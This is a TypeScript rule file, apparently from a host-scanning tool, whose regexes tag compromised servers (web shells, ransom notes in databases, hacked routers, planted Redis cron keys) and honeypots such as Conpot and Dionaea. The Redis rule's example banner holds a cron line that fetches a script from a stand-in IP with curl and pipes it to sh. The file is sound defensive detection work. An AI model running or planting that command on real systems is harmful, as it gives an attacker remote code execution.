import { defineTags } from './rule.ts';

/** Signs of a compromised or abandoned host. */
export const compromisedTags = defineTags([
  {
    tag: 'Compromised',
    why: 'The page title boasts of the break-in.',
    when: [{ title: /^.{0,40}\b(?:hacked|defaced|pwned|owned) by\b/i }, { title: /^h4ck3d by/i }],
    example: { title: 'Hacked By NobodyInParticular' },
    not: { title: 'How the bank was attacked' },
  },
  {
    tag: 'Compromised',
    why: 'A web shell without a password.',
    when: [
      {
        title:
          /^(?:b374k|c99(?:shell)?|r57shell|WSO \d|IndoXploit|Mini Shell|ALFA TEaM Shell|FilesMan)/i,
      },
      { banner: /(?:uname -a:|Uname:)[^\n]{0,200}[\s\S]{0,400}(?:FilesMan|c99shell|b374k)/ },
    ],
    example: { title: 'b374k 2.8' },
    not: { title: 'Shell gas station' },
  },
  {
    tag: 'Compromised',
    also: ['Data Leak'],
    why: 'The database was emptied; a ransom note or a signature is left in it.',
    when: [
      {
        banner:
          /(?:READ[_ -]{1,2}ME[_ -]TO[_ -]RECOVER|README_MISSING_DATABASES|PLEASE_READ_ME_VVV|read_me_to_recover)/,
      },
      { banner: /[a-z0-9]{10}-meow\b/ },
      {
        banner:
          /all (?:of )?your (?:data|databases?) (?:is|are|was|were) (?:backed up|a? ?backed up|downloaded)/i,
      },
    ],
    example: { service: 'mongodb', banner: 'databases: READ_ME_TO_RECOVER_YOUR_DATA (0.08 MB)' },
    not: { banner: 'Please read the README before you recover data' },
  },
  {
    tag: 'Compromised',
    also: ['Router'],
    why: 'An intruder renamed the device to say so.',
    when: [
      { banner: /hacked-(?:router|ftp|by|mikrotik|ap)[-a-z]{0,20}(?:sos|help|password|had|was)/i },
      { banner: /HACKED-ROUTER-HELP-SOS/i },
    ],
    example: { service: 'snmp', banner: 'HACKED-ROUTER-HELP-SOS-HAD-DUP-PASSWORD' },
    not: { banner: 'router-help' },
  },
  {
    tag: 'Compromised',
    why: 'A key that automated attacks write into open stores so that it runs as a cron job.',
    when: [
      {
        service: ['redis'],
        banner: /(?:\*\/\d+ \* \* \* \* (?:root )?(?:curl|wget)|backup\d[\s\S]{0,40}cron)/,
      },
    ],
    example: {
      service: 'redis',
      banner: 'backup1\n\n*/2 * * * * root curl -fsSL http://192.0.2.9/i.sh | sh\n',
    },
    not: { service: 'redis', banner: 'redis_version:7.0.12' },
  },
  {
    tag: 'honeypot',
    why: 'The plant and controller names that Conpot makes up.',
    when: [{ banner: /(?:Technodrome|Mouser Factory)/ }],
    example: { service: 's7comm', banner: 'System Name: Technodrome\nPlant: Mouser Factory' },
    not: { service: 's7comm', banner: 'System Name: SIMATIC 300' },
  },
  {
    tag: 'honeypot',
    why: "Dionaea's certificate names its project.",
    when: [
      { subject: /^Nepenthes Development Team$/ },
      { organization: /^dionaea\.carnivore\.it$/ },
      { issuerOrganization: /^dionaea\.carnivore\.it$/ },
    ],
    example: {
      certificate: {
        subjectCommonName: 'Nepenthes Development Team',
        subjectOrganization: 'dionaea.carnivore.it',
        issuerCommonName: '',
        issuerOrganization: '',
        serial: '',
        sha256: '',
      },
    },
    not: { service: 'microsoft-ds', banner: 'Windows 5.1' },
  },
  {
    tag: 'honeypot',
    why: 'The node name that every Elastichoney reports.',
    when: [{ banner: /"name" ?: ?"Green Goblin"/ }],
    example: {
      service: 'http',
      banner:
        'HTTP/1.1\n\n{ "status" : 200, "name" : "Green Goblin", "tagline" : "You Know, for Search" }',
    },
    not: {
      service: 'http',
      banner: 'HTTP/1.1\n\n{ "name" : "node-1", "tagline" : "You Know, for Search" }',
    },
  },
  {
    tag: 'honeypot',
    why: 'The version and date in every Mailoney greeting.',
    when: [{ banner: /ESMTP Exim 4\.81 #1 Thu, 29 Jul 2010 05:13:48/ }],
    example: {
      service: 'smtp',
      banner: '220 mail.site.example ESMTP Exim 4.81 #1 Thu, 29 Jul 2010 05:13:48 -0700',
    },
    not: { service: 'smtp', banner: '220 mail.site.example ESMTP Exim 4.96 Tue, 12 Sep 2023' },
  },
  {
    tag: 'honeypot',
    why: "Glastopf's page: one heading, and a form for every attack.",
    when: [
      { banner: /<h2>My Resource<\/h2>/ },
      { banner: /<h2>Blog Comments<\/h2>[\s\S]{0,200}Please post your comments for the blog/ },
    ],
    example: {
      banner:
        'HTTP/1.1\n\n<h2>Blog Comments</h2>\n<label>Please post your comments for the blog</label>',
    },
    not: { banner: 'HTTP/1.1\n\n<h2>Comments</h2>' },
  },
  {
    tag: 'honeypot',
    why: 'Too many services on one port: each answer belongs to a different product.',
    when: [{ banner: /220 [^\n]{0,80}FTP[\s\S]{0,600}SSH-2\.0-[\s\S]{0,600}RFB 00/ }],
    example: { banner: '220 ftp.site.example FTP ready\r\nSSH-2.0-OpenSSH_7.4\r\nRFB 003.008\n' },
    not: { banner: '220 ftp.site.example FTP ready' },
  },
]);
